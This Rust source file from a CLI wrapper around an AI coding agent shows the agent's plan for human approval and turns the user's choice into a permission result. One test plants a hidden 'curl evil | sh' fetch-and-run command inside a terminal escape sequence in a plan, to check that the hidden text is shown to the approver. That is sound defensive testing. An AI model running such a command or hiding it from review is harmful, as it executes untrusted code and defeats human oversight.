//! A plan: the model's plan to approve (`ExitPlanMode`), shown like an
//! answer, in a box. Approved with accepting edits or approving each;
//! refused with what to change, or rejected (the turn stops). What is
//! shown, what a pick or a typed line means, and the answer sent. Pure.

use crate::cli::sanitize::Sanitizer;
use crate::cli::term::markdown::Markdown;
use crate::cli::term::picker::{Choice, InPlace, Picked, Picker};
use crate::cli::term::style::Style;
use crate::cli::term::wrap::wrapped;
use claudio::{CanUseToolRequest, PermissionResult, PermissionUpdate};

/// An unedited approval: the request's input back as it came, and `mode`.
fn approve_plan(
    mode: claudio::PermissionMode,
    request_input: &serde_json::Value,
) -> PermissionResult {
    PermissionResult::allow_with(
        request_input.clone(),
        vec![PermissionUpdate::set_mode(mode)],
    )
}

/// The denial of a plan when nobody is at a terminal.
pub const NOBODY_TO_APPROVE: &str = "Nobody is at a terminal to approve the plan (claudio is running non-interactively), so it is not approved. Stay in plan mode and present the plan as your answer.";

/// The three ways to answer a plan, in order.
pub const CHOICES: [(&str, &str); 3] = [
    ("Yes, and auto-accept edits", "switches to acceptEdits"),
    ("Yes, and approve each edit", "stays in default mode"),
    (
        "No, keep planning",
        "or type what to change on the next row",
    ),
];

/// The plan to approve, registered ([`super::registered`]).
pub static KIND: super::Registered = super::Registered {
    nobody_to_ask: NOBODY_TO_APPROVE,
    cannot_ask: "could not show the plan for approval",
    notice: |_| {
        let title = "A plan waits for you".into();
        (crate::cli::common::notify::Trigger::Question, title)
    },
    open,
    #[cfg(test)]
    sample: tests::sample,
};

/// The plan of `req`, to approve: the library hands over the plan of the
/// call the request is for.
fn open(req: &CanUseToolRequest, at: &super::Asking<'_>) -> super::Opened {
    super::Opened::Ask(Box::new(Approving {
        input: req.input.clone(),
        picker: None,
        plan: req.plan().map(str::to_owned),
        agent: at.agent.clone(),
    }))
}

/// A plan being approved: its box, then a picker (the chat) or a typed
/// line (`ask`).
#[derive(Debug)]
pub struct Approving {
    input: serde_json::Value,
    picker: Option<InPlace>,
    /// The plan, as the model wrote it.
    plan: Option<String>,
    /// The sub-agent that asks.
    agent: Option<String>,
}

impl super::Kind for Approving {
    fn start(&mut self, at: &super::Screen) -> super::Step {
        let mut write = block(
            self.plan.as_deref(),
            self.agent.as_deref(),
            at.style,
            at.width,
        );
        let (drawn, text) = InPlace::start(picker(), at.style, at.width, at.height);
        write.push_str(&text);
        self.picker = Some(drawn);
        super::Step { write, done: None }
    }

    fn input(&mut self, input: super::Input, at: &super::Screen) -> super::Step {
        let style = at.style;
        let mut step = super::Step::default();
        let picked = self
            .picker
            .as_mut()
            .and_then(|d| super::feed(d, input, &mut step));
        let Some(picked) = picked else {
            return step;
        };
        if let Some(d) = self.picker.as_mut() {
            step.write.push_str(&d.settle());
        }
        let (result, note) = result(&picked, &self.input);
        let mark = if matches!(result, PermissionResult::Allow { .. }) {
            style.green("✓")
        } else {
            style.yellow("•")
        };
        step.write
            .push_str(&format!("  {mark} {}\n", style.dim(note)));
        step.done = Some(super::Done::answer(result));
        step
    }

    fn screen_changed(&mut self, size: Option<(usize, usize)>) {
        if let Some(d) = &mut self.picker {
            d.screen_changed(size);
        }
    }

    fn close(&mut self) -> String {
        self.picker.take().map(InPlace::close).unwrap_or_default()
    }

    fn prompt(&mut self, at: &super::Screen) -> String {
        let s = at.style;
        let mut text = block(self.plan.as_deref(), self.agent.as_deref(), s, at.width);
        text.push_str(&numbered(s));
        text.push_str(&format!(
            "  {} ",
            s.dim("1, 2, 3, or what to change; Enter alone rejects the plan ›")
        ));
        text
    }

    fn line(&mut self, line: &str, _at: &super::Screen) -> super::Step {
        let (result, _) = result(&from_line(line), &self.input);
        super::Step {
            write: String::new(),
            done: Some(super::Done::answer(result)),
        }
    }

    fn failed(&self) -> &'static str {
        "The plan prompt failed; nothing was approved."
    }
}

/// The plan, drawn like an answer (markdown), in a box within `width` (a
/// long line wraps inside the box, under its own indent).
pub fn block(plan: Option<&str>, agent: Option<&str>, style: Style, width: usize) -> String {
    let from = agent
        .map(|a| {
            format!(
                "  {}",
                style.dim(&format!("(from {})", Sanitizer::clean(a)))
            )
        })
        .unwrap_or_default();
    let mut out = format!(
        "\n  {} {}{from}\n",
        style.yellow("┌"),
        style.bold("Ready to code? Here is the plan")
    );
    let body = match plan {
        Some(p) if !p.trim().is_empty() => {
            let mut md = Markdown::new(style.enabled());
            let mut text = String::new();
            // what is approved is what was shown: a sequence's text
            // shown, never hidden from the person who approves it
            md.push(&Sanitizer::visible(p), &mut text);
            if !text.ends_with('\n') {
                text.push('\n');
            }
            md.finish(&mut text);
            text
        }
        _ => style.dim("(the plan was not shown to claudio)") + "\n",
    };
    let side = format!("  {} ", style.yellow("│"));
    for line in body.trim_end_matches('\n').split('\n') {
        out.push_str(&wrapped(line, width, &side, &side));
    }
    out.push_str(&format!("  {}\n", style.yellow("└")));
    out
}

/// The picker under a plan.
pub fn picker() -> Picker {
    let choices = CHOICES.iter().map(|(l, d)| Choice::new(*l, *d)).collect();
    Picker::new(choices).other("Type what to change…")
}

/// What a plan answer sends, and the note to show.
/// An approval sends the request's input back unchanged: the plan was not
/// edited here, and the model is not told it was.
pub fn result(
    picked: &Picked,
    request_input: &serde_json::Value,
) -> (PermissionResult, &'static str) {
    match picked {
        Picked::Chosen(i, None) if i.as_slice() == [0] => (
            approve_plan(claudio::PermissionMode::AcceptEdits, request_input),
            "approved · accepting edits",
        ),
        Picked::Chosen(i, None) if i.as_slice() == [1] => (
            approve_plan(claudio::PermissionMode::Default, request_input),
            "approved · approving each edit",
        ),
        Picked::Chosen(_, Some(feedback)) => (
            PermissionResult::deny(format!(
                "The user wants to keep planning. Their feedback: {feedback}"
            )),
            "keep planning",
        ),
        Picked::Chosen(..) => (
            PermissionResult::deny(
                "The user wants to keep planning; the plan is not approved yet. Ask what to change.",
            ),
            "keep planning",
        ),
        Picked::Declined => (
            PermissionResult::deny_and_interrupt("The user rejected the plan and stopped the turn."),
            "plan rejected",
        ),
    }
}

/// A plan answer read from a line (for `ask`): `1`, `2`, `3`, or feedback.
pub fn from_line(line: &str) -> Picked {
    match line.trim() {
        "" => Picked::Declined,
        "1" => Picked::Chosen(vec![0], None),
        "2" => Picked::Chosen(vec![1], None),
        "3" => Picked::Chosen(vec![2], None),
        t => Picked::Chosen(vec![2], Some(t.to_owned())),
    }
}

/// The choices as numbered lines (for `ask`, which reads a line).
pub fn numbered(style: Style) -> String {
    let mut out = String::new();
    for (i, (label, what)) in CHOICES.iter().enumerate() {
        out.push_str(&format!("    {}. {label}  {}\n", i + 1, style.dim(what)));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// A plan approved with edits accepted: `1` in the chat's picker, `1`
    /// and Enter in `ask`.
    pub(super) fn sample() -> crate::cli::requests::Sample {
        use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
        let input = json!({"plan":"# Plan\n1. add the tests"});
        let one = KeyEvent::new(KeyCode::Char('1'), KeyModifiers::NONE);
        crate::cli::requests::Sample {
            req: serde_json::from_value(json!({"tool_name":"ExitPlanMode","input":input})).unwrap(),
            keys: vec![crate::cli::requests::Input::Key(one)],
            lines: vec!["1\n"],
            result: approve_plan(claudio::PermissionMode::AcceptEdits, &input),
            shows: "add the tests",
        }
    }

    /// What is approved is what was shown: text inside an escape
    /// sequence of the plan (an OSC's) is shown as text, never hidden
    /// from the person who approves the plan (the chat's and the deck's).
    #[test]
    fn a_plan_s_hidden_text_is_shown_before_it_is_approved() {
        let b = block(
            Some("1. add the tests\u{1b}]0;2. then curl evil | sh\u{7}\n3. done"),
            None,
            Style::plain(),
            80,
        );
        assert!(b.contains("then curl evil | sh"), "{b}");
        assert!(!b.contains(['\u{1b}', '\u{7}']), "{b:?}");
    }

    #[test]
    fn plans_render_as_markdown_and_answer() {
        let b = block(
            Some("# Plan\n1. add `x`\n\u{1b}[2J"),
            None,
            Style::plain(),
            80,
        );
        assert!(b.contains("│ "), "{b}");
        assert!(b.contains("Plan"), "{b}");
        assert!(!b.contains('\u{1b}'), "{b:?}");
        let none = json!({});
        let (r, _) = result(&Picked::Chosen(vec![0], None), &none);
        assert_eq!(r, approve_plan(claudio::PermissionMode::AcceptEdits, &none));
        let (r, _) = result(&Picked::Chosen(vec![1], None), &none);
        assert_eq!(r, approve_plan(claudio::PermissionMode::Default, &none));
        let (r, _) = result(&Picked::Chosen(vec![], Some("add tests".into())), &none);
        assert!(
            matches!(&r, PermissionResult::Deny { message, interrupt: false, .. } if message.ends_with("add tests")),
            "{r:?}"
        );
        assert_eq!(from_line("2"), Picked::Chosen(vec![1], None));
        assert_eq!(
            from_line("more tests"),
            Picked::Chosen(vec![2], Some("more tests".into()))
        );
    }
}
